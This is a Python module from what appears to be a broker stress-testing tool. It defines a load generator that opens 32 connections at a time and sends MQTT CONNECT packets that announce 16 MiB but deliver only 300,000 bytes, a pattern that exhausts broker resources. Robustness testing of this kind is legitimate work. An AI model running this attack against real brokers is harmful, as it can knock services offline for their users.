# SPDX-License-Identifier: Apache-2.0
import contextlib
from collections.abc import Generator

from poolmark.attack import packets
from poolmark.attack.broker import Broker

ANNOUNCED, SENT = 16 << 20, 300_000     # 327 700 bytes is the longest CONNECT that there can be


def long_connect(broker: Broker) -> Generator[None, None, None]:
    """CONNECTs that announce 16 MiB, each with its first 300 000 bytes"""
    begun = packets.beginning(0x10, ANNOUNCED) + packets.connect("")[2:] + bytes(SENT)
    yield
    while True:
        with contextlib.ExitStack() as stack:
            clients = [stack.enter_context(broker.open()) for _ in range(32)]
            for client in clients:
                client.send(begun, 0.1)
            for client in clients:
                client.read_for(0.01)
        yield
